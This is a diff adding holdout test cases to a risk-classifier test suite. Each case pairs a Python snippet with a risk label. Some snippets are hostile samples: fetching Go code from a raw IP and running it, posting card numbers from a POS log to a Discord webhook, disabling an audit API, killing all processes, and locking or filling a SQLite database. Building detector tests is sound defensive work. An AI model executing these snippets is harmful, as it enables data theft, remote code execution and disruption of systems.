@@ -12077,6 +12077,79 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "    f.write('512')\n",
             M,
         ),
+        # holdout396-403: Go env, go run downloads, card numbers, audit off, named process lists, SQLite locks and blobs
+        (
+            'import os, subprocess\n'
+            "env = dict(os.environ, GONOSUMDB='git.corp.example.com/*', GOPRIVATE='git.corp.example.com/*')\n"
+            "subprocess.run(['go', 'build', './...'], env=env)\n",
+            L,
+        ),
+        (
+            'import os, subprocess\n'
+            "env = dict(os.environ, GOSUMDB='off')\n"
+            "subprocess.run(['go', 'get', 'example.com/m'], env=env)\n",
+            H,
+        ),
+        (
+            'import json, subprocess\n'
+            "e = json.loads(subprocess.check_output(['go', 'env', '-json']))\n"
+            "if e.get('GOSUMDB') == 'off':\n"
+            "    print('checksums are off')\n",
+            L,
+        ),
+        (
+            'import subprocess, urllib.request\n'
+            "open('/tmp/d.go', 'wb').write(urllib.request.urlopen('http://198.51.100.6/d.go').read())\n"
+            "subprocess.run(['go', 'run', '/tmp/d.go'])\n",
+            C,
+        ),
+        (
+            'import re, requests\n'
+            "pan = re.compile(r'\\b4\\d{15}\\b')\n"
+            "hits = pan.findall(open('/var/log/pos/terminal.log').read())\n"
+            "requests.post('https://discord.com/api/webhooks/1/x', json={'content': ' '.join(hits)})\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            "s.put('http://10.20.0.5/api/v2/audit', json={'enabled': False})\n",
+            H,
+        ),
+        (
+            'import requests\n'
+            "requests.put('http://10.20.0.5/api/v2/audit', json={'enabled': True, 'retention_days': 90})\n",
+            S,
+        ),
+        (
+            'import psutil\n'
+            "procs = [p for p in psutil.process_iter(['name']) if p.info['name'] == 'chromium']\n"
+            'for p in procs:\n'
+            '    p.terminate()\n',
+            M,
+        ),
+        (
+            'import psutil\n'
+            'for p in psutil.process_iter():\n'
+            '    p.kill()\n',
+            H,
+        ),
+        (
+            'import sqlite3, time\n'
+            "con = sqlite3.connect('/srv/app/prod.db', isolation_level=None)\n"
+            "con.execute('BEGIN EXCLUSIVE')\n"
+            'while True:\n'
+            '    time.sleep(3600)\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            "con = sqlite3.connect('/srv/scratch/b.db')\n"
+            'while True:\n'
+            "    con.execute('INSERT INTO t SELECT randomblob(1048576)')\n"
+            '    con.commit()\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
